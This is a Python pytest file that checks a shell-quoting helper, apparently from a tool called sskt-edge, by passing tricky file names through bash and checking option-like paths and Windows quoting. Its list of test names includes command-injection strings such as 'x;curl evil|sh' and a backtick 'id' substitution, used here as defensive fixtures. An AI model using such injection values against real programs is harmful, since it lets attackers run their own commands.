"""Commands that are printed, run by a shell."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from sskt_edge.common.shell import command, quoted

NAMES = [
    b"a b",
    b"x;curl evil|sh",
    b'it\'s "so"',
    b"caf\xc3\xa9",
    b"caf\xe9",
    b"line\nend\\",
    b"\x1b[2J$HOME`id`",
    b"*",
]


@pytest.mark.skipif(os.name == "nt" or shutil.which("bash") is None, reason="there is no bash")
def test_what_was_printed_names_the_same_file_when_it_is_pasted() -> None:
    words = " ".join(quoted(os.fsdecode(name)) for name in NAMES)
    assert words.isprintable()
    done = subprocess.run(["bash", "-c", f"printf '%s\\0' {words}"], capture_output=True, check=True)
    assert done.stdout.split(b"\0")[:-1] == NAMES


def test_a_path_never_reads_as_an_option() -> None:
    assert command("train", Path("-x.toml"), "--set", "a=b c") == f"sskt-edge train .{os.sep}-x.toml --set 'a=b c'"
    assert command("eval", Path("a/-x"), "--data", "FOLDER") == "sskt-edge eval a/-x --data FOLDER"


@pytest.mark.parametrize(
    ("word", "said"), [("my run", '"my run"'), ("a&b", '"a&b"'), ("C:\\runs\\a-1", "C:\\runs\\a-1"), ("a=1", "a=1")]
)
def test_windows_reads_double_quotes(word: str, said: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sskt_edge.common.shell.os.name", "nt")
    assert quoted(word) == said
